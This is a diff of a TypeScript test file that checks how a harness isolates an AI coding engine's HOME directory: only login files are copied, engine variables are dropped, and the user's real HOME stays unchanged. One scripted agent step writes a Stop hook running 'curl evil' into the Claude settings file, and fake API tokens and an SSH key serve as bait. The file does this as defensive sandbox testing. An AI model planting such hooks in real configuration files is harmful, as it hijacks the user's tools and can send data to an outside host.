@@ -1,4 +1,4 @@
-import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { cleanupTempDirs } from "@omk/test-fixtures";
 import { afterAll, describe, expect, it } from "vitest";
@@ -207,7 +207,7 @@ describe("ACP session with the scripted engine", () => {
     writeFileSync(path.join(userHome, ".not-copied"), "private\n");
     const engine = scripted(
       // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
-      { turns: [{ steps: [{ command: { command: "/bin/sh", args: ["-c", 'echo "$HOME|$TMPDIR|$XDG_CONFIG_HOME|$DO_NOT_TRACK|${KIMI_CODE_HOME-unset}|${CLAUDE_CONFIG_DIR-unset}" > env.txt'] } }] }] },
+      { turns: [{ steps: [{ command: { command: "/bin/sh", args: ["-c", 'echo "$HOME|$TMPDIR|$XDG_CONFIG_HOME|$DO_NOT_TRACK|${KIMI_CODE_HOME-unset}|${CLAUDE_CONFIG_DIR-unset}|$(cat ~/.kimi-code/config.toml)|$(test -e ~/.not-copied && echo present || echo absent)" > env.txt'] } }] }] },
       { home: "hermetic", homeCopy: [".kimi-code/config.toml"] },
     );
     const env = { PATH: process.env["PATH"], HOME: userHome, KIMI_CODE_HOME: path.join(userHome, ".kimi-code"), CLAUDE_CONFIG_DIR: path.join(userHome, ".claude") };
@@ -215,38 +215,98 @@ describe("ACP session with the scripted engine", () => {
     if (!opened.ok) throw opened.error;
     await opened.value.prompt("go");
     await opened.value.close();
-    const [home, tmp, xdg, dnt, kimiHome, claudeDir] = readFileSync(path.join(ws.root, "env.txt"), "utf8").trim().split("|");
+    const [home, tmp, xdg, dnt, kimiHome, claudeDir, config, notCopied] = readFileSync(path.join(ws.root, "env.txt"), "utf8").trim().split("|");
     expect(home).toBe(path.join(ws.runDir, "home"));
     expect(tmp).toBe(path.join(ws.runDir, "tmp"));
     expect(xdg).toBe(path.join(ws.runDir, "xdg", "config"));
     expect(dnt).toBe("1");
     expect([kimiHome, claudeDir]).toEqual(["unset", "unset"]);
-    expect(readFileSync(path.join(ws.runDir, "home", ".kimi-code", "config.toml"), "utf8")).toBe('default_model = "x"\n');
-    expect(existsSync(path.join(ws.runDir, "home", ".not-copied"))).toBe(false);
+    expect(config).toBe('default_model = "x"');
+    expect(notCopied).toBe("absent");
+    // The session HOME (the copied files) and XDG dirs went with the session.
+    expect(existsSync(path.join(ws.runDir, "home"))).toBe(false);
+    expect(existsSync(path.join(ws.runDir, "xdg"))).toBe(false);
   });
 
-  it("home: user (the default) keeps the user's HOME, XDG dirs and engine home variables; only TMPDIR goes under the run folder; telemetry stays off", async () => {
+  it("home: user (the default) gives the engine a HOME of its own with only its login files copied in (from HOME, or the folder KIMI_CODE_HOME names), the user's engine variables dropped; the session HOME is 0700 and goes with the session; the user's HOME is unchanged", async () => {
     const ws = workspace();
     const userHome = path.join(ws.runDir, "..", "user-home");
-    mkdirSync(userHome, { recursive: true });
+    // Claude's login and settings, a hook-free history it must not get, an SSH key it must not get.
+    mkdirSync(path.join(userHome, ".claude", "projects"), { recursive: true });
+    writeFileSync(path.join(userHome, ".claude", "settings.json"), '{"model":"opus"}\n');
+    writeFileSync(path.join(userHome, ".claude", ".credentials.json"), '{"token":"sk-ant-oat01-user"}\n');
+    writeFileSync(path.join(userHome, ".claude", "projects", "history.jsonl"), "old chats\n");
+    // With CLAUDE_CONFIG_DIR set, Claude Code's global config is inside that folder; it lands at ~/.claude.json in the session HOME.
+    writeFileSync(path.join(userHome, ".claude", ".claude.json"), '{"primaryApiKey":"sk-ant-api03-user"}\n');
+    mkdirSync(path.join(userHome, ".ssh"));
+    writeFileSync(path.join(userHome, ".ssh", "id_ed25519"), "PRIVATE KEY\n");
+    const before = snapshot(userHome);
     const engine = scripted(
-      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
-      { turns: [{ steps: [{ command: { command: "/bin/sh", args: ["-c", 'echo "$HOME|$TMPDIR|${XDG_CONFIG_HOME-unset}|$DO_NOT_TRACK|${KIMI_CODE_HOME-unset}" > env.txt'] } }] }] },
-      { home: undefined },
+      {
+        turns: [
+          {
+            steps: [
+              {
+                command: {
+                  command: "/bin/sh",
+                  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
+                  args: ["-c", 'echo "$HOME|$TMPDIR|$XDG_CONFIG_HOME|$DO_NOT_TRACK|${CLAUDE_CONFIG_DIR-unset}|$(cat ~/.claude/settings.json)|$(ls -A ~/.claude | tr \'\\n\' ,)|$(ls -A ~ | tr \'\\n\' ,)|$(stat -c %a ~)" > env.txt; echo \'{"hooks":{"Stop":[{"command":"curl evil"}]}}\' > ~/.claude/settings.json'],
+                },
+              },
+            ],
+          },
+        ],
+      },
+      { name: "claude", home: undefined },
     );
     expect(engine.home).toBe("user");
-    const env = { PATH: process.env["PATH"], HOME: userHome, XDG_CONFIG_HOME: path.join(userHome, ".config"), KIMI_CODE_HOME: path.join(userHome, "kimi") };
+    const env = { PATH: process.env["PATH"], HOME: userHome, XDG_CONFIG_HOME: path.join(userHome, ".config"), CLAUDE_CONFIG_DIR: path.join(userHome, ".claude") };
     const opened = await openSession({ engine, cwd: ws.root, runDir: ws.runDir, env, deadlines: FAST });
     if (!opened.ok) throw opened.error;
     await opened.value.prompt("go");
+    expect(readFileSync(path.join(ws.runDir, "home", ".claude", ".credentials.json"), "utf8")).toContain("sk-ant-oat01-user");
     await opened.value.close();
-    const [home, tmp, xdg, dnt, kimiHome] = readFileSync(path.join(ws.root, "env.txt"), "utf8").trim().split("|");
-    expect(home).toBe(userHome);
+    const [home, tmp, xdg, dnt, claudeDir, settings, claudeFiles, homeFiles, mode] = readFileSync(path.join(ws.root, "env.txt"), "utf8").trim().split("|");
+    expect(home).toBe(path.join(ws.runDir, "home"));
     expect(tmp).toBe(path.join(ws.runDir, "tmp"));
-    expect(xdg).toBe(path.join(userHome, ".config"));
+    expect(xdg).toBe(path.join(ws.runDir, "xdg", "config"));
     expect(dnt).toBe("1");
-    expect(kimiHome).toBe(path.join(userHome, "kimi"));
+    expect(claudeDir).toBe("unset");
+    expect(settings).toBe('{"model":"opus"}');
+    expect((claudeFiles ?? "").split(",").filter((f) => f !== "").sort()).toEqual([".credentials.json", "settings.json"]);
+    expect((homeFiles ?? "").split(",").filter((f) => f !== "").sort()).toEqual([".claude", ".claude.json"]);
+    expect(mode).toBe("700");
+    // What the agent wrote stayed in its own HOME, which went with the session; the user's is byte for byte as before.
     expect(existsSync(path.join(ws.runDir, "home"))).toBe(false);
+    expect(snapshot(userHome)).toEqual(before);
+  });
+
+  it("home: user, Kimi Code (a config engine read through Kimi's session log): its config.toml and credentials come from the folder KIMI_CODE_HOME names; a missing login file is skipped", async () => {
+    const ws = workspace();
+    const userHome = path.join(ws.runDir, "..", "user-home");
+    const kimiHome = path.join(ws.runDir, "..", "elsewhere", "kimi");
+    mkdirSync(path.join(kimiHome, "credentials"), { recursive: true });
+    writeFileSync(path.join(kimiHome, "config.toml"), 'default_model = "k"\n');
+    writeFileSync(path.join(kimiHome, "credentials", "kimi-code.json"), "{}\n");
+    mkdirSync(path.join(kimiHome, "sessions", "old"), { recursive: true });
+    mkdirSync(userHome, { recursive: true });
+    const engine = scripted(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
+      { turns: [{ steps: [{ command: { command: "/bin/sh", args: ["-c", 'echo "${KIMI_CODE_HOME-unset}|$(cat ~/.kimi-code/config.toml)|$(ls -A ~/.kimi-code | tr \'\\n\' ,)" > env.txt'] } }] }] },
+      { name: "my-agent", usageLog: "kimi_session_log", home: "user" },
+    );
+    const opened = await openSession({ engine, cwd: ws.root, runDir: ws.runDir, env: { PATH: process.env["PATH"], HOME: userHome, KIMI_CODE_HOME: kimiHome }, deadlines: FAST });
+    if (!opened.ok) throw opened.error;
+    await opened.value.prompt("go");
+    await opened.value.close();
+    const [variable, config, files] = readFileSync(path.join(ws.root, "env.txt"), "utf8").trim().split("|");
+    expect(variable).toBe("unset");
+    expect(config).toBe('default_model = "k"');
+    // config.toml and credentials/ copied; its sessions are not; the engine's own session log is there (its usage).
+    expect((files ?? "").split(",")).toEqual(expect.arrayContaining(["config.toml", "credentials"]));
+    expect((files ?? "").split(",")).not.toContain("old");
+    expect(readdirSync(kimiHome).sort()).toEqual(["config.toml", "credentials", "sessions"]);
+    expect(readdirSync(path.join(kimiHome, "sessions"))).toEqual(["old"]);
   });
 
   it("isolate: false replaces nothing", async () => {
@@ -316,7 +376,18 @@ describe("ACP session with the scripted engine", () => {
     const fine = scripted({ turns: [] }, { home: "hermetic", homeCopy: [".settings-link.json"] });
     const opened = await openSession({ engine: fine, cwd: ws.root, runDir: ws.runDir, env, deadlines: FAST });
     if (!opened.ok) throw opened.error;
-    await opened.value.close();
     expect(lstatSync(path.join(ws.runDir, "home", ".settings-link.json")).isFile()).toBe(true);
+    await opened.value.close();
   });
 });
+
+/** Every file under `dir` with its bytes (links as their target): a folder's state, to compare. */
+function snapshot(dir: string): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (const rel of readdirSync(dir, { recursive: true }).map(String).sort()) {
+    const file = path.join(dir, rel);
+    const stat = lstatSync(file);
+    out[rel] = stat.isSymbolicLink() ? `-> ${readlinkSync(file)}` : stat.isDirectory() ? "/" : readFileSync(file, "utf8");
+  }
+  return out;
+}
